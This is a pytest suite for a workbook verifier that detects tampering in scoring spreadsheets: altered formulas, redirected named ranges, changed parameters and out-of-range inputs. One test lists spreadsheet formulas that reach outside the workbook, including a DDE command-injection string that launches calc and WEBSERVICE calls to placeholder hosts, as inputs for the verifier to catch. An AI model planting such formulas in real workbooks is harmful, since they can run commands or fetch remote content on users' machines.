"""The verifier on workbooks: the tamper corpus is caught in full, each at its cell, and
honest workbooks (ours, LibreOffice's round trip, filled templates) verify PASS."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import tamper
from workbook_cases import require_libreoffice

from aijri_xl import verify_file
from aijri_xl.method import PARAMETERS
from aijri_xl.verify.workbook_checks import external_reach, normalise
from aijri_xl.workbook.layout import MIN_TASK_ROWS, layout
from aijri_xl.workbook.libreoffice import recalculate

LAYOUT = layout()


@pytest.fixture(scope="module")
def example(repo_root: Path) -> bytes:
    return (repo_root / "workbooks" / "hpc-developer.xlsx").read_bytes()


def _verify(tmp_path: Path, data: bytes, name: str = "t.xlsx"):
    path = tmp_path / name
    path.write_bytes(data)
    return verify_file(path)


def _codes_at(v, where: str) -> set[str]:
    return {f.code for f in v.findings if f.where == where}


def test_the_untampered_example_passes(tmp_path, example):
    v = _verify(tmp_path, example)
    assert v.verdict == "PASS", v.findings
    assert v.result is not None and v.result.score == 52.8


def test_the_libreoffice_round_trip_passes(tmp_path, example):
    require_libreoffice()
    source = tmp_path / "hpc.xlsx"
    source.write_bytes(example)
    (saved,) = recalculate([source], tmp_path / "lo")
    assert saved.read_bytes() != example
    v = verify_file(saved)
    assert v.verdict == "PASS", v.findings


FORMULA_CELLS = [c for c in LAYOUT.formula_cells()]


@pytest.mark.parametrize("cell", FORMULA_CELLS, ids=lambda c: f"{c.sheet}!{c.ref}")
def test_every_formula_replaced_by_its_value_is_caught_at_its_cell(tmp_path, example, cell):
    v = _verify(tmp_path, tamper.replace_formula_by_its_value(example, cell.sheet, cell.ref))
    assert v.verdict == "FAIL"
    assert "AIJ-X305" in _codes_at(v, f"{cell.sheet}!{cell.ref}")


def test_a_score_pasted_by_hand_says_what_the_method_gives(tmp_path, example):
    final = LAYOUT.by_name["final_score"]
    v = _verify(tmp_path, tamper.set_value(example, final.sheet, final.ref, 61.3))
    where = f"{final.sheet}!{final.ref}"
    assert {"AIJ-X305", "AIJ-E103"} <= _codes_at(v, where)
    message = next(f.message for f in v.findings if f.code == "AIJ-E103")
    assert "shows 61.3" in message and "its formulas compute 61.3" in message
    assert "the method gives 52.8" in message


NAMED_RANGES = [c for c in LAYOUT.cells if c.name and c.is_range]


@pytest.mark.parametrize("cell", NAMED_RANGES, ids=lambda c: c.name)
def test_every_range_shortened_by_a_row_is_caught(tmp_path, example, cell):
    start, end = cell.ref.split(":")
    col, row = re.match(r"([A-Z]+)(\d+)", end).groups()
    shorter = f"{cell.sheet}!${start[0]}${start[1:]}:${col}${int(row) - 1}"
    v = _verify(tmp_path, tamper.redirect_name(example, cell.name, shorter))
    assert v.verdict == "FAIL"
    assert "AIJ-X303" in _codes_at(v, cell.name)


def test_a_formula_with_a_shortened_range_is_caught(tmp_path, example):
    weighted = LAYOUT.by_name["weighted_total"]
    formula = "IF(ready_tasks,SUMPRODUCT(Tasks!C5:C28,Tasks!D5:D28),\"\")"
    v = _verify(tmp_path, tamper.set_formula(example, weighted.sheet, weighted.ref, formula,
                                             2.25))
    assert "AIJ-X306" in _codes_at(v, f"{weighted.sheet}!{weighted.ref}")


@pytest.mark.parametrize("parameter", PARAMETERS, ids=lambda p: p.name)
def test_every_parameter_changed_is_caught(tmp_path, example, parameter):
    cell = LAYOUT.by_name[parameter.name]
    v = _verify(tmp_path, tamper.set_value(example, cell.sheet, cell.ref,
                                           float(parameter.value) + 1))
    assert v.verdict == "FAIL"
    assert "AIJ-X307" in _codes_at(v, f"{cell.sheet}!{cell.ref}")


def test_a_changed_parameter_is_reported_with_what_the_formulas_compute(tmp_path, example):
    cell = LAYOUT.by_name["SCORE_SPAN"]
    v = _verify(tmp_path, tamper.set_value(example, cell.sheet, cell.ref, 6.93))
    e105 = [f for f in v.findings if f.code == "AIJ-E105" and f.field == "score"]
    assert e105 and "the method gives 52.8" in e105[0].message


def test_only_the_formulas_the_results_need_are_evaluated(tmp_path, example):
    """A check formula no result depends on is not evaluated: edited into one formualizer
    cannot read, it is reported as edited and changes nothing the results compute."""
    from aijri_xl.verify import evaluator
    from aijri_xl.workbook.xlsx import col_letters, read_xlsx

    order = evaluator._template_order(LAYOUT)
    check = next(c for c in LAYOUT.formula_cells() if c.sheet == "Checks")
    data = read_xlsx(example)
    targets = tuple((c.sheet, c.ref) for c in LAYOUT.cells if c.kind == "result")
    plan = evaluator._plan(tuple(data.cell(s, r).formula for s, r in order),
                           evaluator._name_set(tuple(sorted(data.names.items()))), LAYOUT,
                           targets)
    evaluated = {(s, f"{col_letters(c - 1)}{r}") for s, r, c, _ in plan.formulas}
    assert {t for t in targets if t in set(order)} <= evaluated
    assert (check.sheet, check.ref) not in evaluated
    assert len(evaluated) < len(order) / 4
    v = _verify(tmp_path, tamper.set_formula(example, check.sheet, check.ref, "SUM(1,2))", 0))
    assert {f.code for f in v.findings} == {"AIJ-X306"}


OUT_OF_RANGE = [
    ("protective_embodied_physicality", 4), ("protective_embodied_physicality", -1),
    ("protective_deep_interpersonal_connection", 4),
    ("protective_goal_setting_moral_judgment", 9), ("growth_correlation", 3),
    ("growth_correlation", -3), ("evidence_job_posting_trends", 3),
    ("evidence_company_actions", -3), ("evidence_wage_trends", 5),
    ("evidence_ai_tool_maturity", -9), ("evidence_expert_consensus", 2.5),
    ("barrier_regulatory_licensing", 3), ("barrier_physical_presence", -1),
    ("barrier_union_collective_bargaining", 7), ("barrier_liability_accountability", 3),
    ("barrier_cultural_ethical", "high"), ("override_score", 100.5),
    ("override_score", -1), ("task_score", 6), ("task_score", 0), ("task_time", 1.5),
    ("task_time", -0.25), ("task_class", "MAYBE"),
]


@pytest.mark.parametrize(("name", "value"), OUT_OF_RANGE, ids=lambda x: str(x))
def test_every_input_set_out_of_range_is_caught_at_its_cell(tmp_path, example, name, value):
    cell = LAYOUT.by_name[name]
    ref = cell.ref.split(":")[0]  # the first task row for task columns
    v = _verify(tmp_path, tamper.set_value(example, cell.sheet, ref, value))
    assert v.verdict == "FAIL"
    codes = _codes_at(v, f"{cell.sheet}!{ref}")
    assert codes & {"AIJ-E002", "AIJ-E003", "AIJ-E010"}, v.findings


REDIRECTABLE = [c for c in LAYOUT.cells if c.name and c.kind in
                ("input", "result", "parameter", "identity") and not c.is_range]


@pytest.mark.parametrize("cell", REDIRECTABLE, ids=lambda c: c.name)
def test_every_defined_name_redirected_is_caught(tmp_path, example, cell):
    v = _verify(tmp_path, tamper.redirect_name(example, cell.name, f"{cell.sheet}!$Z$99"))
    assert v.verdict == "FAIL"
    assert "AIJ-X303" in _codes_at(v, cell.name) or "AIJ-X301" in _codes_at(v, cell.name)


@pytest.mark.parametrize("formula", [
    'WEBSERVICE("https://example.invalid/score")', "[1]Sheet1!A1",
    'HYPERLINK("https://example.invalid","open")', "cmd|' /C calc'!A0",
    'FILTERXML(WEBSERVICE("http://x.invalid"),"//a")',
])
def test_an_added_formula_reaching_outside_is_caught(tmp_path, example, formula):
    v = _verify(tmp_path, tamper.set_formula(example, "Commentary", "D20", formula, "x"))
    assert v.verdict == "FAIL"
    assert "AIJ-X308" in _codes_at(v, "Commentary!D20")


def test_an_internal_hyperlink_is_not_external():
    assert external_reach('HYPERLINK("#Score!B12","score")') is None
    assert external_reach('IF(zone="","",zone)') is None
    # read from the tokens: text that only mentions a URL reaches nothing; a call does
    assert external_reach('"see https://example.invalid"&A1') is None
    assert external_reach('HYPERLINK("https://example.invalid","x")') is not None
    assert external_reach('IMAGE("ht"&"tps://example.invalid/"&A1)') is not None


def test_unknown_method_version_is_refused(tmp_path, example):
    ident = LAYOUT.by_name["method"]
    v = _verify(tmp_path, tamper.set_value(example, ident.sheet, ident.ref, "AIJRI-2.0"))
    assert v.verdict == "FAIL" and v.result is None
    assert any(f.code == "AIJ-E011" for f in v.findings)


def test_normalise_ignores_what_spreadsheets_rewrite():
    assert normalise("=IF(ready_all, ROUND(score_unrounded, 1), \"\")") == \
        normalise('=if(READY_ALL,_xlfn.ROUND($score_unrounded,1),"")')
    assert normalise("='Tasks'!$C$5") == normalise("=Tasks!C5")
    assert normalise('=IF(zone="GREEN",1,0)') != normalise('=IF(zone="green",1,0)')


def test_excel_shared_formulas_are_expanded_and_verify_pass(tmp_path, example):
    """Excel stores a column of like formulas once, as a shared formula; the verifier must
    read each cell's own formula from it, so an Excel-saved workbook verifies PASS."""
    data = tamper.as_excel_shared_formulas(example, "Tasks", "E", 5, 29)
    data = tamper.as_excel_shared_formulas(data, "Tasks", "H", 5, 29, si=1)
    v = _verify(tmp_path, data)
    assert v.verdict == "PASS", v.findings


def test_an_edited_shared_formula_is_caught_in_every_cell_it_covers(tmp_path, example):
    data = tamper.as_excel_shared_formulas(example, "Tasks", "E", 5, 29)
    data = tamper._rewrite(data, tamper.sheet_part("Tasks"), lambda xml: xml.replace(
        "C5*D5,", "C5*D5*2,", 1))
    v = _verify(tmp_path, data)
    edited = {f.where for f in v.findings if f.code == "AIJ-X306"}
    assert edited == {f"Tasks!E{row}" for row in range(5, 30)}


@pytest.mark.parametrize("task_rows", [MIN_TASK_ROWS, 2 * MIN_TASK_ROWS])
def test_the_template_s_own_formulas_reach_nothing_outside(task_rows):
    """What lets a file formula with the template's exact text pass unread."""
    from aijri_xl.verify.workbook_checks import _foreign_functions, external_reach

    lay = layout(task_rows)
    formulas = [c.formula for c in lay.formula_cells() if c.formula]
    assert len(formulas) > 200
    assert [f for f in formulas if external_reach(f[1:])] == []
    assert [f for f in formulas if _foreign_functions(f[1:], lay)] == []


def test_the_template_s_own_formulas_with_its_names_use_only_its_functions_and_operators():
    """What lets the evaluator take a template formula, under the template's names, without
    reading it for foreign functions and operators."""
    from aijri_xl.verify import evaluator
    from aijri_xl.workbook.formula import (
        functions,
        substitute_names,
        template_functions,
        template_names,
        template_operators,
        tokens,
    )

    lay = layout(2 * MIN_TASK_ROWS)
    names = tuple(sorted(template_names(lay).items()))
    targets = evaluator._name_targets(names)
    allowed = template_operators(lay)
    for cell in lay.formula_cells():
        text = substitute_names((cell.formula or "")[1:], targets)
        assert functions(text) <= template_functions(lay), cell.ref
        assert {t.text if t.kind == "op" else f"kind:{t.kind}" for t in tokens(text)} \
            <= allowed, cell.ref
    assert evaluator._template_names_set(evaluator._name_set(names), lay)
